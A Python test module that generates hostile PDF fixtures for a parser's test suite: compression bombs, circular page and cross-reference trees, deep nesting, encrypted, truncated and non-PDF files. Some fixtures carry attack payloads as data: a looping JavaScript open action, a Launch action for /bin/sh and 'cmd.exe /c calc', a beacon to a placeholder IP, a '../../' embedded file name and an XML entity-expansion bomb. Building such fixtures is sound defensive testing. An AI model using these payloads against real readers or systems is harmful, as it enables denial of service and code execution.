"""Hostile PDFs by structure: objects, tables, trees and filters that are wrong, circular, endless or too many."""

from __future__ import annotations

import io
import random
import zlib
from functools import cache

from tests.hostile.parts import HELVETICA, SOUND, bomb, bombs, one_page, packed, pdf, repeated, stream, text

_MEGABYTE = b" " * (1 << 20)


# Few bytes that unpack to many.


@bomb("many_characters.pdf", "too_large", "empty_text", "timeout", "out_of_memory", amplifies=True)
def many_characters() -> bytes:
    """50 KB to fifty million characters."""
    data = zlib.compress(b"BT /F1 1 Tf 9 9 Td (" + b"a" * 50_000_000 + b") Tj ET")
    return one_page(raw=stream(data, b"/Filter/FlateDecode"))


@bomb("many_strings.pdf", "too_large", "timeout", "out_of_memory", amplifies=True)
def many_strings() -> bytes:
    data = repeated(b"BT /F1 1 Tf 9 9 Td " + b"(word) Tj " * 1000 + b"ET ", 5_000)
    return one_page(raw=stream(data, b"/Filter/FlateDecode"))


@bomb("many_pages.pdf", "too_large", amplifies=True, quick=True)
def ninety_thousand_pages() -> bytes:
    """540 KB, one page ninety thousand times."""
    return pdf(
        {
            1: b"<</Type/Catalog/Pages 2 0 R>>",
            2: b"<</Type/Pages/Count 90000/Kids[" + b"3 0 R " * 90_000 + b"]>>",
            3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
        }
    )


@bomb("page_tree_doubling.pdf", amplifies=True)
def doubling() -> bytes:
    """Forty levels, each twice the next: a million million pages."""
    tree = {n: b"<</Type/Pages/Count 1099511627776/Kids[%d 0 R %d 0 R]>>" % (n + 1, n + 1) for n in range(2, 42)}
    return pdf({1: b"<</Type/Catalog/Pages 2 0 R>>", **tree, 42: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"})


def _filtered(data: bytes, filters: bytes) -> bytes:
    return one_page(raw=stream(data, b"/Filter" + filters))


def lzw(blocks: int) -> bytes:
    """Spaces in LZW: each code is one space longer than the one before, until the table is full."""
    codes = [256, 32, *range(258, 4094)]
    bits, width, table = [], 9, 257
    for code in codes:
        bits.append(f"{code:0{width}b}")
        table += code != 256
        width = 9 if code == 256 else min(12, max(9, (table + 1).bit_length()))
    block = "".join(bits)
    joined = block * 8  # whole bytes
    return int(joined, 2).to_bytes(len(joined) // 8, "big") * (blocks // 8)


_flate = repeated(_MEGABYTE, 8)
bombs(
    {
        "flate_300mb.pdf": lambda: _filtered(repeated(_MEGABYTE, 300), b"/FlateDecode"),
        "flate_twice.pdf": lambda: _filtered(zlib.compress(repeated(_MEGABYTE, 1000)), b"[/FlateDecode/FlateDecode]"),
        "flate_thrice.pdf": lambda: _filtered(
            zlib.compress(zlib.compress(repeated(_MEGABYTE, 1000))), b"[" + b"/FlateDecode" * 3 + b"]"
        ),
        "flate_predictor.pdf": lambda: one_page(
            raw=stream(
                repeated(_MEGABYTE, 100),
                b"/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 2147483647/Colors 32/BitsPerComponent 16>>",
            )
        ),
        "lzw.pdf": lambda: _filtered(lzw(48), b"/LZWDecode"),
        "run_length.pdf": lambda: _filtered(repeated(b"\x81 " * 65_536, 30), b"[/FlateDecode/RunLengthDecode]"),
        "ascii_hex.pdf": lambda: _filtered(repeated(b"20" * 65_536, 800) + b"", b"[/FlateDecode/ASCIIHexDecode]"),
        "ascii85.pdf": lambda: _filtered(repeated(b"z" * 65_536, 800), b"[/FlateDecode/ASCII85Decode]"),
        "filters_5000.pdf": lambda: _filtered(b"20" * 100, b"[" + b"/ASCIIHexDecode" * 5_000 + b"]"),
        "xref_stream_million.pdf": lambda: _xref_stream(b"\x01\0\0\x0a\0" * 1_000_000, 1_000_000),
        "xref_stream_endless.pdf": lambda: _xref_stream(b"\x01\0\0\x0a\0", 2_147_483_647),
        "object_stream_million.pdf": lambda: _object_stream(b"9 0 " * 1_000_000 + b"<<>>", 1_000_000),
    },
    amplifies=True,
    quick=("flate_300mb.pdf",),
)


def _xref_stream(rows: bytes, size: int) -> bytes:
    head = (
        b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\n"
    )
    table = packed(rows, b"/Type/XRef/W[1 3 1]/Root 1 0 R/Size %d/Index[0 %d]" % (size, size))
    return head + b"3 0 obj\n" + table + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(head)


def _object_stream(data: bytes, count: int) -> bytes:
    first = len(data) - 4
    return one_page(more={10: packed(data, b"/Type/ObjStm/N %d/First %d/Extends 10 0 R" % (count, first))})


# Circles.


def _pages(two: bytes, more: dict[int, bytes] | None = None) -> bytes:
    return pdf({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: two, **(more or {})})


@bomb("object_stream_in_itself.pdf")
def object_stream_in_itself() -> bytes:
    """Objects 1, 2 and 4 are in the stream that is object 4."""
    head = b"%PDF-1.7\n"
    inside = b"1 0 2 30 4 70 <</Type/Catalog/Pages 2 0 R>>  <</Type/Pages/Kids[]/Count 0>>         <<>>"
    body = b"4 0 obj\n" + stream(inside, b"/Type/ObjStm/N 3/First 15/Extends 4 0 R") + b"\nendobj\n"
    rows = b"\0\0\0\0" + b"\x02\0\x04\0" + b"\x02\0\x04\1" + b"\1\0\x09\0" + b"\x02\0\x04\2"
    at = len(head) + len(body)
    table = b"3 0 obj\n" + stream(rows, b"/Type/XRef/W[1 2 1]/Root 1 0 R/Size 5") + b"\nendobj\n"
    return head + body + table + b"startxref\n%d\n%%%%EOF\n" % at


@bomb("previous_loop.pdf", quick=True)
def previous_loop() -> bytes:
    """A cross-reference table whose predecessor is itself."""
    data = one_page()
    return data.replace(b"/Size", b"/Prev %d/Size" % data.rindex(b"xref\n0"))


@bomb("previous_pair.pdf")
def previous_pair() -> bytes:
    """Two cross-reference tables, each the predecessor of the other."""
    data = one_page()
    first = data.rindex(b"xref\n0")
    second = b"xref\n0 0\ntrailer\n<</Size 6/Root 1 0 R/Prev %d>>\n" % first
    at = len(data)
    data = data.replace(b"/Size", b"/Prev %010d/Size" % (at + 16))
    return data + second + b"startxref\n%d\n%%%%EOF\n" % (at + 16)


bombs(
    {
        "circular_pages.pdf": lambda: _pages(b"<</Type/Pages/Kids[2 0 R]/Count 1>>"),
        "circular_pages_two.pdf": lambda: _pages(
            b"<</Type/Pages/Kids[3 0 R 3 0 R]/Count 2>>", {3: b"<</Type/Pages/Parent 2 0 R/Kids[2 0 R]/Count 9>>"}
        ),
        "circular_parent.pdf": lambda: _pages(
            b"<</Type/Pages/Kids[3 0 R]/Count 1/Parent 3 0 R>>", {3: b"<</Type/Page/Parent 2 0 R>>"}
        ),
        "circular_reference.pdf": lambda: one_page(page=b"/Rotate 10 0 R", more={10: b"11 0 R", 11: b"10 0 R"}),
        "circular_length.pdf": lambda: one_page(raw=b"<</Length 4 0 R>>stream\n" + SOUND + b"\nendstream"),
        "circular_contents.pdf": lambda: one_page(raw=b"[4 0 R 4 0 R]"),
        "circular_outline.pdf": lambda: one_page(
            root=b"/Outlines 10 0 R",
            more={10: b"<</First 11 0 R/Last 11 0 R>>", 11: b"<</Title(a)/Next 11 0 R/First 10 0 R/Parent 11 0 R>>"},
        ),
        "circular_names.pdf": lambda: one_page(
            root=b"/Names<</Dests 10 0 R/EmbeddedFiles 10 0 R>>/PageLabels 10 0 R", more={10: b"<</Kids[10 0 R]>>"}
        ),
        "circular_form_fields.pdf": lambda: one_page(
            root=b"/AcroForm<</Fields[10 0 R]/DR 10 0 R>>",
            more={10: b"<</T(a)/FT/Tx/Kids[10 0 R 10 0 R]/Parent 10 0 R>>"},
        ),
        "root_is_page.pdf": lambda: pdf({1: b"<</Type/Page/Pages 1 0 R/Kids[1 0 R]/Count 1/Parent 1 0 R>>"}),
    },
    quick=("circular_pages.pdf", "circular_reference.pdf"),
)


# Depth, counts and lengths.

bombs(
    {
        "deep_arrays.pdf": lambda: one_page(page=b"/A " + b"[" * 200_000 + b"]" * 200_000),
        "deep_dictionaries.pdf": lambda: one_page(page=b"/A " + b"<</A" * 100_000 + b" 1" + b">>" * 100_000),
        "deep_content.pdf": lambda: one_page(SOUND + b"[" * 500_000 + b" 1 TJ"),
        "deep_metadata.pdf": lambda: one_page(more={10: b"<</Title " + b"[" * 99_999 + b">>"}, trailer=b"/Info 10 0 R"),
        "deep_pages.pdf": lambda: pdf(
            {
                1: b"<</Type/Catalog/Pages 2 0 R>>",
                **{n: b"<</Type/Pages/Count 1/Kids[%d 0 R]>>" % (n + 1) for n in range(2, 30_000)},
                30_000: b"<</Type/Page/MediaBox[0 0 9 9]>>",
            }
        ),
        "deep_outline.pdf": lambda: one_page(
            root=b"/Outlines 10 0 R",
            more={n: b"<</Title(a)/First %d 0 R/Last %d 0 R>>" % (n + 1, n + 1) for n in range(10, 30_000)},
        ),
        "count_huge.pdf": lambda: one_page().replace(b"/Count 1>", b"/Count 2147483647>"),
        "count_negative.pdf": lambda: one_page().replace(b"/Count 1>", b"/Count -5>"),
        "contents_100000.pdf": lambda: one_page(raw=b"[" + b"10 0 R " * 100_000 + b"]", more={10: packed(SOUND)}),
        "contents_empty_array.pdf": lambda: one_page(raw=b"[" + b"null " * 300_000 + b"]"),
        "length_huge.pdf": lambda: one_page(raw=b"<</Length 9999999999>>stream\n" + SOUND + b"\nendstream"),
        "length_negative.pdf": lambda: one_page(raw=b"<</Length -1>>stream\n" + SOUND + b"\nendstream"),
        "numbers.pdf": lambda: one_page(b"1e999 -9999999999999999999999 ." * 1000 + b" cm " + SOUND + b"9" * 100_000),
        "no_kids.pdf": lambda: _pages(b"<</Type/Pages/Kids[]/Count 0>>"),
        "kids_are_numbers.pdf": lambda: _pages(b"<</Type/Pages/Kids[1 2 (a) null /N]/Count 5>>"),
        "root_missing.pdf": lambda: pdf({7: b"<<>>"}),
        "startxref_negative.pdf": lambda: one_page().replace(b"startxref\n", b"startxref\n-9"),
        "xref_million.pdf": lambda: one_page().replace(
            b"xref\n0 6\n", b"xref\n0 1000006\n" + b"0000000000 65535 f \n" * 1_000_000
        ),
        "comments.pdf": lambda: b"%PDF-1.4\n" + b"%" * 1_000_000 + b"\n" + b"%\n" * 500_000,
        "open_strings.pdf": lambda: b"%PDF-1.4\n1 0 obj\n" + b"(" * 1_000_000,
    },
    quick=("deep_arrays.pdf", "count_huge.pdf"),
)


# Locked, cut off, and not what the name says.


@cache
def sound() -> bytes:
    from reportlab.pdfgen.canvas import Canvas

    data = io.BytesIO()
    canvas = Canvas(data, invariant=True)
    for page in range(8):
        for line in range(30):
            canvas.drawString(72, 760 - 20 * line, f"Line {line} of page {page} tells of pumps and valves.")
        canvas.showPage()
    canvas.save()
    return data.getvalue()


def locked(user: str, owner: str, strength: int = 128) -> bytes:
    from reportlab.lib.pdfencrypt import StandardEncryption
    from reportlab.pdfgen.canvas import Canvas

    data = io.BytesIO()
    canvas = Canvas(data, invariant=True, encrypt=StandardEncryption(user, owner, strength=strength))
    canvas.drawString(72, 700, "Locked words.")
    canvas.save()
    return data.getvalue()


def _unknown_lock(entries: bytes) -> bytes:
    return one_page(more={10: b"<<%b>>" % entries}, trailer=b"/Encrypt 10 0 R/ID[(a)(b)]")


bombs(
    {
        "locked_user.pdf": lambda: locked("secret", "other"),
        "locked_user_40.pdf": lambda: locked("secret", "other", 40),
    },
    "encrypted",
    quick=("locked_user.pdf",),
)
bomb("locked_owner.pdf", "ok", quick=True)(lambda: locked("", "other"))
bombs(
    {
        "locked_unknown.pdf": lambda: _unknown_lock(b"/Filter/Mystery/V 99/R 99/O(a)/U(b)/P -1"),
        "locked_short_keys.pdf": lambda: _unknown_lock(b"/Filter/Standard/V 5/R 6/Length 256/O()/U()/OE()/UE()/P 0"),
        "locked_huge_keys.pdf": lambda: _unknown_lock(b"/Filter/Standard/V 4/R 4/Length 99999999/O(a)/U(b)/P 4"),
        "cut_header.pdf": lambda: sound()[:9],
        "cut_tenth.pdf": lambda: sound()[: len(sound()) // 10],
        "cut_half.pdf": lambda: sound()[: len(sound()) // 2],
        "cut_most.pdf": lambda: sound()[: len(sound()) * 9 // 10],
        "cut_end.pdf": lambda: sound()[:-30],
        "junk_1k_before.pdf": lambda: b"MAIL HEADER: x\r\n" * 60 + sound(),
        "junk_1m_before.pdf": lambda: b"MAIL HEADER: x\r\n" * 65_536 + sound(),
        "junk_after.pdf": lambda: sound() + random.Random(1).randbytes(200_000),
        "version.pdf": lambda: sound().replace(b"%PDF-1.", b"%PDF-9."),
    },
    quick=("locked_unknown.pdf", "cut_half.pdf"),
)
bombs(
    {
        "html.pdf": lambda: b"<!DOCTYPE html><title>Not found</title><p>404",
        "nothing.pdf": lambda: b"",
        "white.pdf": lambda: b" \r\n\t" * 5_000,
        "garbage.pdf": lambda: random.Random(2).randbytes(300_000),
        "zeros.pdf": lambda: bytes(1 << 20),
        "words.pdf": lambda: b"Some words.\n" * 1000,
    },
    "malformed",
    "empty_text",
    quick=("html.pdf", "nothing.pdf"),
)


# What stands around the text.


def _titled(title: bytes) -> bytes:
    return one_page(more={10: b"<</Title%b/Author%b>>" % (title, title)}, trailer=b"/Info 10 0 R")


_SCRIPT = b"<</S/JavaScript/JS(while\\(true\\)app.alert\\(1\\))>>"
bombs(
    {
        "title_1mb.pdf": lambda: _titled(b"(" + b"Long title " * 100_000 + b")"),
        "title_controls.pdf": lambda: _titled(b"(Red\\033[31m\\007\\000\\r\\n alert)"),
        "title_surrogates.pdf": lambda: _titled(b"<FEFFD800004100420043DC00>"),
        "title_bidi.pdf": lambda: _titled(b"<FEFF202E0041200B00420043DB40DC41E0410044>"),
        "labels.pdf": lambda: one_page(root=b"/PageLabels<</Nums[0<</P(\\000\\033%b)/St -9>>]>>" % (b"x" * 500_000)),
        "scripts.pdf": lambda: one_page(
            root=b"/OpenAction%b/AA<</WC%b>>/Names<</JavaScript<</Names[(a)%b]>>>>" % (_SCRIPT, _SCRIPT, _SCRIPT)
        ),
        "launch.pdf": lambda: one_page(root=b"/OpenAction<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>>>"),
        "links.pdf": lambda: one_page(
            root=b"/OpenAction<</S/URI/URI(http://192.0.2.1/beacon)>>",
            page=b"/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/SubmitForm/F(http://192.0.2.1/)>>>>]",
        ),
        "embedded_file.pdf": lambda: one_page(
            root=b"/Names<</EmbeddedFiles<</Names[(../../x)<</F(../../x)/EF<</F 10 0 R>>>>]>>>>",
            more={10: stream(repeated(_MEGABYTE, 200), b"/Type/EmbeddedFile/Filter/FlateDecode")},
        ),
        "xfa.pdf": lambda: one_page(
            root=b"/AcroForm<</XFA 10 0 R/Fields[]>>/NeedsRendering true",
            more={10: packed(b"<?xml version='1.0'?>" + b"<xdp><a>" * 50_000)},
        ),
        "xmp_entities.pdf": lambda: one_page(
            root=b"/Metadata 10 0 R",
            more={
                10: stream(
                    b'<?xpacket?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
                    + b"".join(b'<!ENTITY %c "%b">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9))
                    + b"]><x>&j;</x>",
                    b"/Type/Metadata/Subtype/XML",
                )
            },
        ),
        "annotations_100000.pdf": lambda: one_page(
            page=b"/Annots[%b]" % (b"<</Subtype/Text/Rect[0 0 9 9]/Contents(a)>>" * 100_000)
        ),
        "javascript_font.pdf": lambda: one_page(more={5: HELVETICA.replace(b"Helvetica", b"A" * 60_000)}),
        "text_beside.pdf": lambda: one_page(
            text("Visible words here.") + b"/Span<</ActualText(" + b"z" * 99_999 + b")>>BDC EMC"
        ),
    },
    quick=("title_controls.pdf", "title_surrogates.pdf"),
)
